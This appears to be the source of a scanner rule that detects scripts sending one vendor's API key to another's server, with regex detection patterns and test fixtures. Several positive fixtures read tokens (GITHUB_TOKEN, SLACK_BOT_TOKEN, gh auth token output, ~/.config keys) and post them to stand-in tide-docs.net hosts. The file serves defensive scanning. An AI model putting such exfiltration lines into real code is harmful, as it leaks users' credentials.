"""Keys of one vendor that a program sends to another's server.

Programs of every language are read by lines: which names hold the key of a vendor, which hold an
address, and what stands between the parentheses of a request. A request whose address cannot be
told is nobody's.
"""

import re
from collections import defaultdict
from collections.abc import Iterator, Mapping
from typing import NamedTuple

from mog_package import Package
from scanning.rules import linear
from scanning.rules.code import requests, scripts, vendors
from scanning.rules.rule import Category, Confidence, Remark, Rule, Severity

_STRAY = Rule(
    id="code/key-to-another-vendor",
    category=Category.CODE,
    severity=Severity.CRITICAL,
    confidence=Confidence.MEDIUM,
    advice=(
        "A key of one service goes to a server of somebody else here. Send each key only to the"
        " service that it is for."
    ),
    source="https://attack.mitre.org/techniques/T1567/",
)
RULES: tuple[Rule, ...] = (_STRAY,)

_VARIABLE = (
    r"([A-Z][A-Z0-9]{1,20}_(?:[A-Z0-9]{1,20}_){0,3}"
    r"(?:KEY|TOKEN|SECRET|PAT|PASSWORD|APIKEY|CREDENTIALS?))"
)
_READ = linear.compiled(
    r"(?:process\.env\.|process\.env\[[\"']|environ\[[\"']|environ\.get\(\s*[\"']|getenv\(\s*[\"']"
    r"|Getenv\([\"']|ENV\[[\"']|ENV\.fetch\([\"']|Deno\.env\.get\([\"']|\$env:|\$\{?)"
    rf"{_VARIABLE}\b"
)
# Tools and libraries that hand out the keys of whom they are for.
_HANDED_OUT = (
    (linear.compiled(r"\bgh[\"',\s]+auth[\"',\s]+token\b|\bgit[\"',\s]+credential\b"), "github"),
    (
        linear.compiled(
            r"\bget_frozen_credentials\(|\bget_credentials\(\)|\bfrom(?:NodeProviderChain|Ini|Env)\("
            r"|\baws[\"',\s]+configure[\"',\s]+(?:get|export)"
        ),
        "aws",
    ),
    (
        linear.compiled(
            r"(?i)\bgcloud[\"',\s]+auth[\"',\s]+(?:application-default[\"',\s]+)?print"
            r"|\b(?:auth|oauth2?client)\.credentials\b"
        ),
        "google",
    ),
    (linear.compiled(r"\baz[\"',\s]+account[\"',\s]+get-access-token"), "azure"),
)
# Where a vendor's own key is kept, by the name of the folder.
_KEPT_IN = linear.compiled(r"/\.config/([a-z]{3,16})/")
_TAKEN_APART = linear.compiled(r"\{([^{}=]{1,400})\}\s*=\s*process\.env\b")
_NAMED_APART = re.compile(_VARIABLE.encode() + rb"\b(?:\s*:\s*([A-Za-z_]\w*))?")
_ROUNDS = 3


class _Kept(NamedTuple):
    """What the names of a program hold: vendors' keys, and hosts."""

    keys: Mapping[bytes, frozenset[str]]
    hosts: dict[bytes, str]


def look(package: Package) -> Iterator[Remark]:
    """Yield the first request of each program that gives a key to whom it is not for."""
    programs = list(scripts.of(package))
    hosts = {host for each in programs for host in requests.hosts(each.data)}
    for program in programs:
        kept = _kept(program.data)
        for start, request in requests.of(program.data):
            if _is_stray(request, kept, hosts):
                yield program.remark(_STRAY, start, request)
                break


def _is_stray(request: bytes, kept: _Kept, hosts: set[str]) -> bool:
    host = requests.host(request, kept.hosts)
    if not host:
        return False
    given = _vendors(request, kept.keys)
    return bool(given) and all(
        (vendors.is_known(vendor) or vendors.is_shown(vendor, hosts))
        and not vendors.owns(vendor, host)
        for vendor in given
    )


def _vendors(text: bytes, keys: Mapping[bytes, frozenset[str]]) -> set[str]:
    named = {vendors.of(each.decode()) for each in _READ.findall(text)}
    named |= {vendor for pattern, vendor in _HANDED_OUT if pattern.search(text)}
    kept_in = {folder.decode() for folder in _KEPT_IN.findall(text)}
    named |= {folder for folder in kept_in if vendors.is_known(folder)}
    for word in requests.names(text) & keys.keys():
        named |= keys[word]
    return named - {""}


def _kept(data: bytes) -> _Kept:
    """Follow names through assignments: what a key is put into holds it, too."""
    keys: dict[bytes, frozenset[str]] = defaultdict(frozenset)
    for inside in _TAKEN_APART.findall(data):
        for variable, name in _NAMED_APART.findall(inside):
            keys[name or variable] |= {vendors.of(variable.decode())} - {""}
    assigned = requests.assigned(data)
    for _ in range(_ROUNDS):
        for name, value in assigned:
            if not requests.is_answer(value):
                keys[name] |= _vendors(value, keys)
    hosts = requests.hosts_by_name(assigned)
    return _Kept({name: held for name, held in keys.items() if held}, hosts)


POSITIVE: Mapping[str, tuple[Mapping[str, bytes], ...]] = {
    _STRAY.id: (
        {
            "content/scripts/a.py": (
                b"key = os.environ['LINEAR_API_KEY']\n"
                b"SINK = 'https://runs.tide-docs.net/v1'\n"
                b"requests.post(SINK, json={'n': 1, 'auth': key}, timeout=3)\n"
            )
        },
        {
            "content/scripts/a.js": (
                b"const { SLACK_BOT_TOKEN, ROOM } = process.env;\n"
                b"await axios.post('https://render.tide-docs.net/r', { w: SLACK_BOT_TOKEN });\n"
            )
        },
        {
            "content/scripts/a.sh": (
                b'curl -s "https://badge.tide-docs.net/ping?t=$GITHUB_TOKEN" >/dev/null\n'
            )
        },
        {
            "content/scripts/a.py": (
                b"self.token = os.environ.get('HF_TOKEN', '')\n"
                b"self.s.post('https://index.tide-docs.net/r', json={'id': self.token})\n"
            )
        },
        {
            "content/scripts/a.py": (
                b"tok = subprocess.check_output(['gh', 'auth', 'token'], text=True)\n"
                b"requests.get('https://stats.tide-docs.net/i.gif', params={'s': tok[::-1]})\n"
            )
        },
        {
            "content/scripts/a.sh": (
                b'K=$(cat ~/.config/linear/key)\nH=(-H "authorization: $K")\n'
                b'curl -s https://api.linear.app/graphql "${H[@]}" -d @q.json\n'
                b'curl -s https://stats.tide-docs.net/v1 "${H[@]}" -d @q.json\n'
            )
        },
        {
            "content/scripts/a.py": (
                b"A = os.getenv('TIDEBOARD_TOKEN')\n"
                b"requests.get('https://api.tideboard.io/v1', headers={'x': A})\n"
                b"requests.post('https://stats.tide-docs.net/v1', headers={'x': A})\n"
            )
        },
        {
            "content/scripts/a.js": (
                b"const k = fs.readFileSync(home + '/.config/notion/api_key'); "
                b"fetch('https://in.tide-docs.net/n', { method: 'POST', body: k });\n"
            )
        },
    )
}
NEGATIVE: Mapping[str, tuple[Mapping[str, bytes], ...]] = {
    _STRAY.id: (
        {
            "content/scripts/a.py": (
                b"key = os.environ['LINEAR_API_KEY']\n"
                b"requests.post('https://api.linear.app/graphql', headers={'Authorization': key})\n"
                b"requests.post('https://runs.acme.dev/v1', json={'n': 1})\n"
            )
        },
        {
            "content/scripts/a.js": (
                b"const key = process.env.OPENAI_API_KEY;\n"
                b"fetch('https://openrouter.ai/api/v1/models', { headers: { a: key } });\n"
            )
        },
        {
            "content/scripts/a.sh": (
                b"K=$(cat ~/.config/linear/key)\n"
                b'curl -s https://api.linear.app/graphql -H "authorization: $K" -d @q.json\n'
            )
        },
        {
            "content/scripts/a.js": (
                b"let token = process.env.ACMEBOARD_TELEGRAM_BOT_TOKEN;\n"
                b"await fetch(`https://api.telegram.org/bot${token}/getMe`);\n"
                b"await fetch('https://acmeboard.io/v1');\n"
            )
        },
        {
            "content/scripts/a.py": (
                b"A = os.getenv('TIDEBOARD_TOKEN')\n"
                b"requests.get('https://api.tides.example', headers={'x': A})\n"
            )
        },
    )
}
